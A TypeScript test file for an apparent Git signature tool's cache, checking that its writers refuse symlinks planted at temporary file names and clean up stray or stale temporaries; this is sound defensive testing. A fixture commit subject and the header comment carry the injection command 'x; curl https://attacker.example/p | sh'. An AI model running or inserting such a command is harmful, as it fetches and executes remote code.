/**
 * Whoever can write the cache directory without the HMAC secret (a CI cache restored from an
 * untrusted pull-request job, `--cache DIR` in the checkout) cannot forge a verdict, but could
 * plant `<key>.memo.<pid>.tmp` or `<key>.cache.<pid>.tmp` as symlinks: the key is a hash of
 * public inputs and pids are few, so one symlink per pid covers every run. A writer that
 * followed them would overwrite any file the user can write (a shell profile, a git hook) with
 * records carrying attacker-chosen commit subjects (`x; curl … | sh`). The temporaries are
 * created exclusively under unguessable names, so no planted name is ever written through.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CommitResult } from '../../../src/core/verify-object.ts';
import { VerdictCache } from '../../../src/store/verdict-cache.ts';
import { WalkMemo } from '../../../src/store/walk-memo.ts';
import { fileJobState } from '../../../src/jobs/ports.ts';

const SECRET = Buffer.from('a-secret-of-thirty-two-bytes-or-more!!');
const KEY = 'a'.repeat(64);
const WALK = { include: ['1'.repeat(40)], exclude: [], parsed: [], shallow: [], hashAlgorithm: 'sha1' };
const result: CommitResult = {
  commit: 'b'.repeat(40),
  parents: [],
  subject: 'x; curl https://attacker.example/p | sh',
  verdict: { status: 'N', format: 'none', reason: 'unsigned' } as CommitResult['verdict'],
  mergetags: [],
};

describe('cache writers never write through a planted temporary name', () => {
  let dir: string;
  let victim: string;

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'signet-cache-symlink-'));
    victim = join(dir, 'victim-profile');
    writeFileSync(victim, 'echo original\n');
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  /** What an attacker plants: the temporary name this very process would use, and its neighbours. */
  function plant(base: string): void {
    for (let pid = Math.max(1, process.pid - 5); pid <= process.pid + 5; pid++) symlinkSync(victim, `${base}.${pid}.tmp`);
  }

  it('the walk memo', () => {
    const cacheDir = join(dir, 'verify-cache');
    const memo = new WalkMemo(cacheDir, KEY, WALK, false, SECRET);
    mkdirSync(cacheDir, { recursive: true });
    plant(join(cacheDir, `${memo.key}.memo`));
    memo.record(result);
    memo.complete();
    expect(readFileSync(victim, 'utf8')).toBe('echo original\n');
    expect(memo.writeProblem).toBeUndefined();
    // The memo itself was written and reads back.
    expect(new WalkMemo(cacheDir, KEY, WALK, false, SECRET).recall()?.length).toBe(1);
  });

  it('the verdict cache', () => {
    const cacheDir = join(dir, 'verify-cache');
    mkdirSync(cacheDir, { recursive: true });
    plant(join(cacheDir, `${KEY}.cache`));
    const cache = new VerdictCache(cacheDir, KEY, false, SECRET);
    cache.put(result);
    cache.save();
    expect(readFileSync(victim, 'utf8')).toBe('echo original\n');
    expect(new VerdictCache(cacheDir, KEY, false, SECRET).get(result.commit)?.subject).toBe(result.subject);
    expect(readdirSync(cacheDir).filter((name) => name.endsWith('.cache'))).toEqual([`${KEY}.cache`]);
  });
});

describe('cache writers leave no temporary behind when the rename fails', () => {
  // A directory planted at the file's name (whoever writes the cache directory) makes every
  // rename fail: each run left its temporary (a memo is ~11 MB at 100,000 commits), filling the disk.
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'signet-cache-rename-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('the walk memo says why it was not written, and leaves nothing', () => {
    const memo = new WalkMemo(dir, KEY, WALK, false, SECRET);
    mkdirSync(join(dir, `${memo.key}.memo`, 'planted'), { recursive: true });
    memo.record(result);
    memo.complete();
    expect(memo.writeProblem).toMatch(/EISDIR|ENOTEMPTY|EEXIST|directory/);
    expect(readdirSync(dir)).toEqual([`${memo.key}.memo`]);
  });

  it('the verdict cache says why it was not written, and leaves nothing', () => {
    mkdirSync(join(dir, `${KEY}.cache`, 'planted'), { recursive: true });
    const cache = new VerdictCache(dir, KEY, false, SECRET);
    cache.put(result);
    expect(() => cache.save()).toThrow(/EISDIR|ENOTEMPTY|EEXIST|directory/);
    expect(readdirSync(dir)).toEqual([`${KEY}.cache`]);
  });
});

describe('cache writers prune only files named as signet names them', () => {
  // The cache directory may be a symlink planted in .git (`.git/signet` → a directory of the
  // user's): keeping the newest 8 `*.cache` / 4 `*.memo` removed whatever else had those endings.
  it('leaves files of other names alone', () => {
    const dir = mkdtempSync(join(tmpdir(), 'signet-cache-prune-'));
    try {
      const theirs = Array.from({ length: 12 }, (_, index) => [`notes-${index}.cache`, `draft-${index}.memo`]).flat();
      for (const name of theirs) writeFileSync(join(dir, name), 'keep me\n');
      const cache = new VerdictCache(dir, KEY, false, SECRET);
      cache.put(result);
      cache.save();
      const memo = new WalkMemo(dir, KEY, WALK, false, SECRET);
      memo.record(result);
      memo.complete();
      expect(memo.writeProblem).toBeUndefined();
      expect(readdirSync(dir).sort()).toEqual([...theirs, `${KEY}.cache`, `${memo.key}.memo`].sort());
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('cache writers remove the temporaries killed runs left', () => {
  // A CI job killed at its timeout while writing a million-commit memo leaves ~110 MB under a
  // name no later run would reuse: each time. An hour-old temporary of signet's names goes.
  it('removes old temporaries of signet names, keeps fresh ones (a run writing now) and other names', () => {
    const dir = mkdtempSync(join(tmpdir(), 'signet-cache-stale-'));
    try {
      const old = (Date.now() - 2 * 3600_000) / 1000;
      const stale = [`${KEY}.memo.4242.${'0'.repeat(16)}.tmp`, `${'b'.repeat(64)}.cache.77.${'f'.repeat(16)}.tmp`];
      const fresh = `${'c'.repeat(64)}.memo.4243.${'1'.repeat(16)}.tmp`;
      const theirs = 'notes.memo.1.tmp';
      for (const name of [...stale, fresh, theirs]) writeFileSync(join(dir, name), 'partial\n');
      for (const name of [...stale, theirs]) utimesSync(join(dir, name), old, old);
      const memo = new WalkMemo(dir, KEY, WALK, false, SECRET);
      memo.record(result);
      memo.complete();
      expect(readdirSync(dir).sort()).toEqual([fresh, theirs, `${memo.key}.memo`].sort());
      // The verdict cache's writer does the same.
      writeFileSync(join(dir, stale[1]!), 'partial\n');
      utimesSync(join(dir, stale[1]!), old, old);
      const cache = new VerdictCache(dir, KEY, false, SECRET);
      cache.put(result);
      cache.save();
      expect(readdirSync(dir).sort()).toEqual([fresh, theirs, `${memo.key}.memo`, `${KEY}.cache`].sort());
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("the jobs' file state never writes through a planted temporary name", () => {
  it('writes the state, leaves the symlink target alone', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'signet-state-symlink-'));
    try {
      const victim = join(dir, 'victim');
      writeFileSync(victim, 'echo original\n');
      mkdirSync(join(dir, 'state', 'reports'), { recursive: true });
      for (let pid = Math.max(1, process.pid - 5); pid <= process.pid + 5; pid++) symlinkSync(victim, join(dir, 'state', 'reports', `latest.json.${pid}.tmp`));
      await fileJobState(join(dir, 'state')).write('reports/latest.json', { ok: true });
      expect(readFileSync(victim, 'utf8')).toBe('echo original\n');
      expect(await fileJobState(join(dir, 'state')).read('reports/latest.json')).toEqual({ ok: true });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
